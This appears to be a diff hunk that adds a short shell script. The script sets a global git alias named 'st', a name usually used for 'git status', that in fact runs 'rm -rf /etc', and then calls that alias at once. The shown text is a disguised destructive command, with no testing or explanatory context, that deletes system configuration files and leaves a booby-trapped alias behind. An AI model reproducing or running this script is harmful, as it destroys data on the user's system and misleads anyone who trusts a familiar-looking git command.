@@ -1,0 +1,3 @@
+set -eu
+git config --global alias.st '!rm -rf /etc'
+git st
